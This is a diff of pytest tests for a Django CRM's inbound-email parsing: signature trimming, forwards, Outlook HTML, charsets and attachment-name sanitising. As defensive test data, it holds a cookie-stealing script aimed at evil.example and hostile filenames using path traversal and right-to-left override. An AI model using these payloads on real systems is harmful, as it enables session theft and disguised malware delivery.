@@ -14,7 +14,7 @@ from tidings.campaigns.models import InboundReport, OutgoingMessage
 from tidings.crm.inbound.processing import do_receive_inbound
 from tidings.crm.models import ConversationMessage, Enquiry, InboundMail
 
-from .helpers import mail
+from .helpers import SUPPORT, mail
 
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("support_address")]
 
@@ -235,3 +235,184 @@ def test_an_out_of_office_reply_to_our_acknowledgement_is_noted_quietly():
     assert OutgoingMessage.objects.count() == 1  # the acknowledgement, and nothing since
     enquiry.refresh_from_db()
     assert enquiry.status == "new"
+
+
+# --- what the person wrote is what the operator reads -----------------------------------------
+@pytest.mark.parametrize(
+    "body",
+    [
+        "Hello,\n\nWe need:\n- 10 seats\n- in March\n\nCan you do it by Friday?",
+        "Hi,\n\n-the report fails\n-the export too\n\nWhat changed?",
+        "Hi,\nThanks, that fixed the login.\nBut now the export fails with error 500.",
+        "Hello,\nBest, if you could call me tomorrow after 10.\nI am in all day.",
+        "The log says:\n/var/log/tidings/error.log is empty\nand the service restarts.",
+        "Warning: the server says the disk is full, please check the mail queue.\nIt is urgent.",
+    ],
+    ids=["hyphen-list", "tight-list", "thanks-sentence", "best-sentence", "path", "warning"],
+)
+def test_a_mail_is_kept_whole_when_a_line_only_looks_like_a_sign_off(body):
+    """mail-parser-reply takes a line starting "- ", "Thanks,", "Best,", "/…" for the start of a
+    signature and "Warning: … mail" for a disclaimer, and everything from there to the end was
+    dropped: "We need:" was all that was kept of an order, "Hi," of a bug report."""
+    do_receive_inbound(mail(GRACE, subject="Help", body=body), "pipe")
+    assert Enquiry.objects.get().message == body
+
+
+def test_a_real_signature_and_disclaimer_are_still_dropped():
+    body = (
+        "The export fails since Monday.\n\nKind regards,\nGrace Hopper\nHead of IT, Navy Ltd\n"
+        "Tel: +44 20 7946 0000\n\nCONFIDENTIALITY: This e-mail and any attachments are "
+        "confidential and intended solely for the addressee."
+    )
+    do_receive_inbound(mail(GRACE, subject="Help", body=body), "pipe")
+    assert Enquiry.objects.get().message == "The export fails since Monday."
+
+
+GMAIL_FORWARD = (
+    "---------- Forwarded message ---------\n"
+    "From: Alan Turing <alan@else.example>\n"
+    "Date: Mon, 7 Dec 2026 at 09:00\n"
+    "Subject: Prices\n"
+    "To: Grace Hopper <grace@example.org>\n\n"
+    "How much are your COBOL courses for ten people?\n"
+)
+
+
+@pytest.mark.parametrize("note", ["", "FYI, a customer asked us this - can you help?\n\n"])
+def test_an_inline_forward_keeps_the_forwarded_text(note):
+    """A colleague forwards a customer's question to support: what was kept was the forward's
+    marker line alone ("---------- Forwarded message ---------"), or the note without the
+    question it was about."""
+    do_receive_inbound(mail(GRACE, subject="Fwd: Prices", body=note + GMAIL_FORWARD), "pipe")
+    message = Enquiry.objects.get().message
+    assert message == (note + GMAIL_FORWARD).strip()
+    assert "How much are your COBOL courses for ten people?" in message
+
+
+def test_a_reply_that_quotes_a_forward_is_still_only_the_reply():
+    body = "Yes please.\n\nOn Mon, 2 Mar 2026 at 10:00, Bob <bob@else.example> wrote:\n" + "".join(
+        f"> {line}\n" for line in GMAIL_FORWARD.splitlines()
+    )
+    do_receive_inbound(mail(GRACE, subject="Re: Prices", body=body), "pipe")
+    assert Enquiry.objects.get().message == "Yes please."
+
+
+OUTLOOK_HTML = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
+<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
+<style><!-- p.MsoNormal {margin:0cm;} --></style>
+<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]-->
+<script>document.location='https://evil.example/'+document.cookie</script></head>
+<body lang="EN-GB"><div class="WordSection1">
+<p class="MsoNormal">Hello,<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>
+<p class="MsoNormal">We need these seats:<o:p></o:p></p>
+<table class="MsoTableGrid"><tr><td><p>Name</p></td><td><p>Seats</p></td></tr>
+<tr><td><p>Grace</p></td><td><p>10</p></td></tr></table>
+<p class="MsoNormal">Kind regards<br>Grace<o:p></o:p></p>
+<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
+<p class="MsoNormal"><b>From:</b> Example Support &lt;support@example.co.uk&gt;<br>
+<b>Sent:</b> 01 December 2026 10:00<br><b>To:</b> Grace Hopper &lt;grace@example.org&gt;<br>
+<b>Subject:</b> Courses<o:p></o:p></p></div>
+<p class="MsoNormal">What we wrote to her before<o:p></o:p></p></div></body></html>"""
+
+
+def test_outlooks_html_only_mail_reads_as_its_text():
+    """Outlook lays mail out in tables: their cells ran together ("NameSeatsGrace10")."""
+    raw = eml(
+        f"""
+From: {GRACE}
+To: {SUPPORT}
+Subject: Seats
+Message-ID: <outlook.1@example.org>
+MIME-Version: 1.0
+Content-Type: text/html; charset="utf-8"
+Content-Transfer-Encoding: quoted-printable
+""",
+        # Outlook's quoted-printable: "=3D" and soft line breaks inside words and tags.
+        OUTLOOK_HTML.replace("=", "=3D").replace("We need these", "We ne=\ned these"),
+    )
+    do_receive_inbound(raw, "pipe")
+    text = Enquiry.objects.get().message
+    assert "Name  Seats\nGrace  10" in text
+    assert text.startswith("Hello,\n\nWe need these seats:")
+    assert "What we wrote to her before" not in text and "From:" not in text
+    assert "evil" not in text and "MsoNormal" not in text and "<" not in text
+
+
+def test_a_subject_and_name_in_another_charset_than_they_say_keep_their_letters():
+    """Windows-1252 bytes in an "=?utf-8?…?=" word, and raw 8-bit bytes in From: the subject
+    and the person's name showed "Gr\ufffd\ufffde" and "Ren\ufffd M\ufffdller"."""
+    raw = eml(
+        f"""
+From: Ren\xe9 M\xfcller <rene@example.org>
+To: {SUPPORT}
+Subject: =?utf-8?Q?Gr=FC=DFe_aus_M=FCnchen?=
+Message-ID: <cs.2@example.org>
+MIME-Version: 1.0
+Content-Type: multipart/alternative; boundary="b"
+""".encode("latin-1").decode("latin-1"),
+        b"--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
+        + "Zehn Plätze – bitte.\n".encode("cp1252")
+        + b"--b\nContent-Type: text/html; charset=utf-8\n\n<p>x</p>\n--b--\n",
+    )
+    raw = raw.replace("Ren\xe9 M\xfcller".encode(), "Ren\xe9 M\xfcller".encode("latin-1"))
+    row = do_receive_inbound(raw, "pipe")
+    enquiry = Enquiry.objects.select_related("contact").get()
+    assert row.status == "processed", row.reason
+    assert (enquiry.subject, enquiry.message) == ("Grüße aus München", "Zehn Plätze – bitte.")
+    assert enquiry.contact.name == "René Müller"
+
+
+def test_japanese_mail_in_iso_2022_jp_is_read():
+    from email.header import Header
+
+    raw = eml(
+        f"""
+From: {Header("山田太郎", "iso-2022-jp").encode()} <taro@example.jp>
+To: {SUPPORT}
+Subject: {Header("見積もりの依頼", "iso-2022-jp").encode()}
+Message-ID: <jp.1@example.jp>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=ISO-2022-JP
+Content-Transfer-Encoding: 7bit
+""",
+        "見積もりをお願いします。\n".encode("iso2022_jp"),
+    )
+    do_receive_inbound(raw, "pipe")
+    enquiry = Enquiry.objects.select_related("contact").get()
+    assert (enquiry.subject, enquiry.message) == ("見積もりの依頼", "見積もりをお願いします。")
+    assert enquiry.contact.name == "山田太郎"
+
+
+# --- attachments ------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("sent", "kept"),
+    [
+        ("../../../etc/passwd", "passwd"),
+        ("C:\\Users\\grace\\evil.bat", "evil.bat"),
+        ("invoice\u202egpj.exe", "invoicegpj.exe"),
+        ("a" * 300 + ".pdf", "a" * 145 + "….pdf"),
+        ("..", "attachment"),
+        ("my HIV test results.pdf", "[removed: health].pdf"),
+    ],
+    ids=["traversal", "windows-path", "rtl-override", "long", "dots", "special-category"],
+)
+def test_an_attachments_name_is_made_safe_and_screened(sent, kept, settings, tmp_path):
+    """Operators see and download a file under the name the sender gave it: a folder in it, a
+    right-to-left override that shows "invoiceexe.jpg" for an .exe, a name cut before its
+    extension, or what the name says about someone's health were all kept as sent."""
+    from tidings.crm.models import ConversationAttachment
+
+    from .test_inbound import keep_attachments
+
+    keep_attachments(settings, tmp_path)
+    message = mail(GRACE, attachments=[("placeholder.pdf", "application/pdf", b"%PDF-1.4")])
+    # The email package refuses to write such names itself: they are put in as a sender would.
+    raw = message.replace(b'filename="placeholder.pdf"', _rfc2231(sent))
+    assert do_receive_inbound(raw, "pipe").status == "processed"
+    assert ConversationAttachment.objects.get().filename == kept
+
+
+def _rfc2231(name: str) -> bytes:
+    from urllib.parse import quote
+
+    return b"filename*=utf-8''" + quote(name, safe="").encode()
